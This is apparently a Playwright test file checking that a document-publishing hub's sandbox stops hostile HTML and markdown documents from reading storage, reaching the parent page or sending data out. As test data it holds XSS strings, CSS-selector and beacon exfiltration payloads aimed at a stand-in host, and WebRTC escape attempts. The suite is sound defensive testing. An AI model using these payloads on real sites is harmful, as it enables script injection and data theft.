// Documents that mean harm, opened in every way a document can be: in the public page, by a share link, decrypted behind
// the gate, and by the frame's own address. Each test names what did not happen.
import { type BrowserContext, chromium, expect, type Page, test } from "@playwright/test";
import { openOutside, openPublisher, type Publisher, password } from "./support/artifacts.ts";
import { startWebHub, type WebHub } from "./support/hub.ts";

type Shelf = { hub: WebHub; publisher: Publisher };

let shelf: Shelf;

test.beforeAll(async () => {
  const hub = await startWebHub();
  shelf = { hub, publisher: await openPublisher(hub) };
});
test.afterAll(() => shelf.hub[Symbol.asyncDispose]());

const ways = ["framed", "alone", "shared", "protected"] as const;
type Way = (typeof ways)[number];

type Opened = { page: Page; context: BrowserContext; requests: string[] };

/** Opens a document and waits until it says it is done, or is there. */
async function open(context: BrowserContext, way: Way, title: string, html: string): Promise<Opened> {
  const { hub, publisher } = shelf;
  const page = await context.newPage();
  const requests: string[] = [];
  context.on("request", (request) => requests.push(request.url()));
  // What the operator's own browser would hold.
  await page.addInitScript(() => {
    if (window === top && origin !== "null") localStorage.setItem("hub:/:token", "the operator's token");
  });
  if (way === "protected") {
    const id = await publisher.publishProtected({ kind: "html", title }, html);
    await page.goto(`${hub.url}/artifacts/${id}`);
    await page.getByLabel("Password", { exact: true }).fill(password);
    await page.getByRole("button", { name: "Unlock" }).click();
  } else {
    const id = await publisher.publish({ kind: "html", title, content: html });
    const path = way === "shared" ? `s/${await publisher.share(id)}` : `artifacts/${id}`;
    await page.goto(`${hub.url}/${path}${way === "alone" ? "/frame" : ""}`);
  }
  return { page, context, requests };
}

/** The frame that holds the document, whatever is around it. */
function documentIn(page: Page) {
  return page.frameLocator("iframe");
}

const probe = `<p id="report">waiting</p><script>
const attempts = {
  storage: () => localStorage.length,
  session: () => sessionStorage.length,
  cookie: () => (document.cookie = "a=b", document.cookie === "" ? fail() : "set"),
  database: () => indexedDB.open("x"),
  parentDocument: () => parent.document.title,
  parentStorage: () => parent.localStorage.length,
  topLocation: () => { top.location.href = "/"; },
  topName: () => top.document.body.innerHTML,
  sibling: () => parent.frames[0].document.body === document.body ? fail() : "read",
  worker: () => navigator.serviceWorker.register("/sw.js"),
  popup: () => open("about:blank") === null ? fail() : "opened",
  alert: () => (alert(1), fail()),
};
function fail() { throw new Error("nothing"); }
(async () => {
  const reached = [];
  for (const [name, attempt] of Object.entries(attempts)) {
    try { await attempt(); reached.push(name); } catch {}
  }
  for (const address of ["/api/v1/home", "/artifacts/x", "/", location.href]) {
    try { await fetch(address); reached.push(address); } catch {}
  }
  document.getElementById("report").textContent = "reached: " + reached.join(" ");
})();
</script>`;

for (const way of ways) {
  test(`${way}: its script runs and reaches nothing: no storage, no cookie, no parent, no hub, no popup`, async ({
    context,
  }) => {
    const { page, requests } = await open(context, way, "probe", probe);
    await expect(documentIn(page).locator("#report")).toHaveText("reached:");
    expect(page.url().startsWith(shelf.hub.url)).toBe(true);
    expect(context.pages()).toHaveLength(1);
    expect(requests.filter((url) => url.includes("/api/"))).toEqual([]);
  });
}

// OUT is somewhere else, UDP a port there.
const PEER =
  "<script>try { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) } catch {}</script>";
const waysOut: Record<string, string> = {
  "a refreshing page": '<meta http-equiv="refresh" content="0;url=http://OUT/a">',
  "a new location": "<script>location = 'http://OUT/a'</script>",
  "the window's location": "<script>try { top.location = 'http://OUT/a' } catch {}</script>",
  "a pressed link": "<a id=a href='http://OUT/a'>x</a><script>a.click()</script>",
  "a link for another window":
    "<a id=a target=_blank href='http://OUT/a'>x</a><a id=b target=_top href='http://OUT/b'>x</a><script>a.click(); b.click()</script>",
  "a pinging link": "<a id=a ping='http://OUT/a' href='#x'>x</a><script>a.click()</script>",
  "a popup": "<script>open('http://OUT/a')</script>",
  "hints to the browser":
    "<link rel=preconnect href='http://OUT'><link rel=dns-prefetch href='//OUT'><link rel=prefetch href='http://OUT/a'><link rel=preload as=image href='http://OUT/b'><link rel=modulepreload href='http://OUT/c'><script type=speculationrules>{\"prefetch\":[{\"urls\":[\"http://OUT/d\"]}]}</script>",
  "a form": "<form id=f action='http://OUT/a'><input name=a></form><script>f.submit(); f.requestSubmit()</script>",
  "requests of every kind":
    "<script>fetch('http://OUT/a').catch(() => {}); navigator.sendBeacon('http://OUT/b'); new Image().src = 'http://OUT/c'; try { new WebSocket('ws://OUT/d') } catch {} try { new EventSource('http://OUT/e') } catch {} const x = new XMLHttpRequest; x.open('GET', 'http://OUT/f'); try { x.send() } catch {}</script>",
  "scripts from elsewhere": "<script src='http://OUT/a'></script><script type=module>import('http://OUT/b')</script>",
  "style sheets":
    "<style>@import 'http://OUT/a'; p { background: url(http://OUT/b) } @font-face { font-family: f; src: url(http://OUT/c) } input[value^=s] { background: url(http://OUT/d) }</style><p style='font-family: f'>x</p><input value=secret>",
  "frames and objects":
    "<iframe src='http://OUT/a'></iframe><object data='http://OUT/b'></object><embed src='http://OUT/c'>",
  "a frame it wrote": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=http://OUT/a'>\"></iframe>",
  "a document it wrote":
    "<script>document.open(); document.write('<img src=http://OUT/a><meta http-equiv=refresh content=\"0;url=http://OUT/b\">'); document.close()</script>",
  "addresses that hold a document": "<script>location = 'data:text/html,<img src=http://OUT/a>'</script>",
  "pictures that hold addresses":
    "<svg xmlns='http://www.w3.org/2000/svg'><image href='http://OUT/a'/><use href='http://OUT/b#c'/><script href='http://OUT/c'/></svg><img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22http://OUT/d%22/></svg>'>",
  "peer connections": PEER,
  "peer connections of a frame it wrote": `<iframe srcdoc="${PEER}"></iframe>`,
  "peer connections of a frame in a closed tree": `<div><template shadowrootmode=closed><iframe srcdoc="${PEER}"></iframe></template></div>`,
  "peer connections of a frame that a script hides": `<div id=host></div><script>host.attachShadow({ mode: 'closed' }).innerHTML = \`<iframe srcdoc="${PEER.replace("</", "<\\/")}"></iframe>\`</script>`,
};

/** A document that asks for peers from a frame of its own is ended by Chromium instead of refused; that will do. */
async function mayEnd(act: () => Promise<void>): Promise<void> {
  try {
    await act();
  } catch (error) {
    if (!/crashed/i.test(String(error))) throw error;
  }
}

for (const way of ways) {
  test(`${way}: nothing leaves: no request, no navigation, no popup, by any way out`, async ({ context }) => {
    test.setTimeout(300_000);
    await using outside = await openOutside();
    for (const [name, html] of Object.entries(waysOut)) {
      await test.step(name, async () => {
        const text = html.replaceAll("OUT", outside.host).replaceAll("UDP", String(outside.udpPort));
        await mayEnd(async () => {
          const { page } = await open(context, way, name, text);
          await page.waitForLoadState("load");
          const before = page.url();
          // Long enough for what the document started to have been refused.
          await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)));
          expect(page.url()).toBe(before);
        });
        expect(outside.told()).toEqual([]);
        expect(context.pages()).toHaveLength(1);
        await context.pages()[0]?.close();
      });
    }
  });
}

test("nothing leaves a document that a browser opens by its own address without saying what for", async () => {
  // Such as over plain http from another machine: no browser tells there whether the document is framed.
  await using outside = await openOutside();
  await using hub = await startWebHub({ HUB_ALLOWED_HOSTS: "hub.test" });
  const publisher = await openPublisher(hub);
  const browser = await chromium.launch({
    ...test.info().project.use.launchOptions,
    args: [...(test.info().project.use.launchOptions?.args ?? []), "--host-resolver-rules=MAP hub.test 127.0.0.1"],
  });
  try {
    for (const name of ["a refreshing page", "a new location", "a pressed link"]) {
      const html = (waysOut[name] ?? "").replaceAll("OUT", outside.host);
      const id = await publisher.publish({ kind: "html", title: name, content: html });
      const page = await browser.newPage();
      await page.goto(`${hub.url.replace("127.0.0.1", "hub.test")}/artifacts/${id}/frame`);
      await page.waitForTimeout(300);
      expect(outside.told()).toEqual([]);
      await page.close();
    }
  } finally {
    await browser.close();
  }
});

test("forged messages are dropped, and no number of them changes the page", async ({ context }) => {
  const { page } = await open(
    context,
    "framed",
    "messages",
    `<p>x</p><script>
    const junk = [null, 1, "height", [], {}, { type: "height" }, { type: "height", px: "9" }, { type: "height", px: NaN },
      { type: "theme", theme: "dark" }, { type: "body", kind: "html", text: "<b>x</b>" }, { type: "__proto__" },
      { type: "select", quote: {} }, { type: "marks", marks: "x" }, { type: "link", href: "javascript:alert(1)" },
      { type: "link", href: "/api/v1/home" }, { type: "link", href: "data:text/html,x" }, { type: "link", href: 7 },
      { type: "link", href: "x".repeat(1e5) }, { type: "select", quote: "x".repeat(1e5), x: 1e9, y: -1 }];
    for (let round = 0; round < 20; round += 1) for (const each of junk) parent.postMessage(each, "*");
    parent.postMessage({ type: "height", px: 1e9 }, "*");
    setTimeout(() => parent.postMessage({ type: "height", px: 777 }, "*"), 300);
    </script>`,
  );
  const frame = page.locator("iframe");
  // The last word on the height is what counts, and the runtime has one too.
  await expect(async () => expect((await frame.boundingBox())?.height).toBeLessThanOrEqual(200_000)).toPass();
  await expect(page.getByRole("dialog")).toHaveCount(0);
  await expect(page.locator("html")).not.toHaveAttribute("data-theme", "dark");
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("messages");
});

test("a link is asked about, with its address in sight, and opens only then", async ({ context }) => {
  await using outside = await openOutside();
  const { page } = await open(
    context,
    "framed",
    "links",
    `<a id="a" href="http://${outside.host}/there">Totally the bank</a>`,
  );
  await documentIn(page).getByRole("link").click();
  const dialog = page.getByRole("dialog");
  await expect(dialog).toContainText(`Open ${outside.host}?`);
  await expect(dialog).toContainText(`http://${outside.host}/there`);
  expect(outside.told()).toEqual([]);
  await expect(dialog.getByRole("button", { name: "Stay here" })).toBeFocused();
  await dialog.getByRole("button", { name: "Stay here" }).click();
  await expect(dialog).toBeHidden();
  await documentIn(page).getByRole("link").click();
  const opening = context.waitForEvent("page");
  await dialog.getByRole("link", { name: "Open" }).click();
  await (await opening).waitForLoadState();
  expect(outside.told()).toContain("GET /there HTTP/1.1");
});

const zoo = [
  "</title><script>globalThis.hurt = 1</script>",
  '"><img src=x onerror="globalThis.hurt=1">',
  "</script><script>globalThis.hurt=1</script><!--<script>",
  "\u202Eevil \u2066\u200B\uFEFFtext\u202D",
  "{{7*7}} $" + "{7*7} <%= 7*7 %>",
  "a".repeat(500),
  "שלום عليكم",
  "]]><!-- &lt; &amp;amp; \u2028\u2029",
];

test("titles, descriptions, labels, names and comments are words, in page, header and card", async ({ context }) => {
  test.setTimeout(240_000);
  const { hub, publisher } = shelf;
  for (const words of zoo) {
    const id = await publisher.publish({
      title: words,
      description: words,
      label: words.slice(0, 15),
      content: `# ${words}\n\n\`\`\`${words}\n${words}\n\`\`\`\n\n[${words}](javascript:alert(1)) ${words}`,
    });
    await publisher.agent.call("artifact_update", { artifact_id: id, content: words, label: words.slice(-15) });
    await publisher.agent.call("comment_post", {
      artifact_id: id,
      body: words,
      anchor: { mode: "text", quote: words },
    });
    const page = await context.newPage();
    const problems: string[] = [];
    page.on("pageerror", (error) => problems.push(error.message));
    page.on("dialog", (dialog) => problems.push(dialog.message()));
    await page.goto(`${hub.url}/artifacts/${id}`);
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(words.replace(/\s+/g, " ").trim());
    await expect(page.locator(".comment-body")).toHaveCount(1);
    await expect(documentIn(page).locator("main")).toBeAttached();
    expect(await page.evaluate(() => Reflect.get(globalThis, "hurt"))).toBeUndefined();
    expect(await page.evaluate(() => document.querySelectorAll("img, main script, header script").length)).toBe(0);
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
    const card = await page.goto(`${hub.url}/artifacts/${id}/og.svg`);
    expect(card?.headers()["content-type"]).toBe("image/svg+xml");
    // An SVG that is not well-formed shows an error of the parser instead.
    expect(
      await page.evaluate(() => document.querySelectorAll("script, image, foreignObject, parsererror").length),
    ).toBe(0);
    expect(await page.evaluate(() => document.documentElement.localName)).toBe("svg");
    expect(problems).toEqual([]);
    await page.close();
  }
});

test("a markdown document runs no script and shows raw HTML as text", async ({ context }) => {
  const { hub, publisher } = shelf;
  const text = `<script>document.title = "hurt"</script>\n\n<img src=x onerror="document.title='hurt'">\n\n[a](javascript:document.title='hurt') ![b](data:image/svg+xml,<svg/onload=alert(1)>)\n\n<style>body{display:none}</style>`;
  const id = await publisher.publish({ title: "quiet", content: text });
  const page = await context.newPage();
  await page.goto(`${hub.url}/artifacts/${id}`);
  const main = documentIn(page).locator("main");
  await expect(main).toContainText('<script>document.title = "hurt"</script>');
  await expect(main).toContainText("<style>body{display:none}</style>");
  await expect(main.locator("script, style, iframe, img[onerror]")).toHaveCount(0);
  await page.goto(`${hub.url}/artifacts/${id}/frame`);
  await expect(page).toHaveTitle("quiet");
  const ran = await page
    .evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "document.title = 'hurt'";
      document.head.append(script);
      return document.title;
    })
    .catch((error: Error) => error.message);
  expect(ran).toBe("quiet");
});

test("one document learns nothing of another, and what the hub holds is not framed", async ({ context }) => {
  const { hub, publisher } = shelf;
  const other = await publisher.publish({ kind: "html", title: "other", content: "<p>other words</p>" });
  const { page } = await open(
    context,
    "framed",
    "reader",
    `<p id="report">waiting</p><script>
    (async () => {
      const said = [];
      for (const path of ["/artifacts/${other}", "/artifacts/${other}/frame", "/"]) {
        const frame = document.createElement("iframe");
        const loaded = new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 500); });
        frame.src = path; document.body.append(frame); await loaded;
        try { said.push(frame.contentDocument.body.textContent); } catch { }
        try { said.push(await (await fetch(path)).text()); } catch { }
      }
      document.getElementById("report").textContent = "learned: " + said.filter(Boolean).join("");
    })();
    </script>`,
  );
  await expect(documentIn(page).locator("#report")).toHaveText("learned:");
  await expect(page.frameLocator("iframe").frameLocator("iframe").getByText("other words")).toHaveCount(0);
  expect(page.url()).toContain(hub.url);
});

test("a huge table and a document of 50 MiB are shown, and the hub answers others meanwhile", async ({ context }) => {
  test.setTimeout(180_000);
  const { hub, publisher } = shelf;
  const table = `| a | b | c |\n|---|---|---|\n${"| 1 | <b>2</b> | 3 |\n".repeat(20_000)}`;
  const page = await context.newPage();
  await page.goto(`${hub.url}/artifacts/${await publisher.publish({ title: "table", content: table })}`);
  await expect(documentIn(page).locator("tbody tr").first()).toBeVisible();
  const large = `# Large\n\n${"words and *more* words, in lines that go on\n\n".repeat(1_150_000)}`.slice(
    0,
    52_428_800,
  );
  const id = await publisher.publish({ title: "large", content: large });
  let isServed = false;
  let probes = 0;
  const frame = fetch(`${hub.url}/artifacts/${id}/frame`).then(async (response) => {
    const { length } = await response.text();
    isServed = true;
    return length;
  });
  // Between two pieces of it the hub has time for whoever else asks.
  for (let round = 0; round < 2000 && !isServed; round += 1) {
    expect((await fetch(`${hub.url}/healthz`)).status).toBe(200);
    probes += 1;
  }
  expect(await frame).toBeGreaterThan(52_000_000);
  expect(probes).toBeGreaterThan(5);
  await publisher.agent.call("artifact_delete", { artifact_id: id });
});
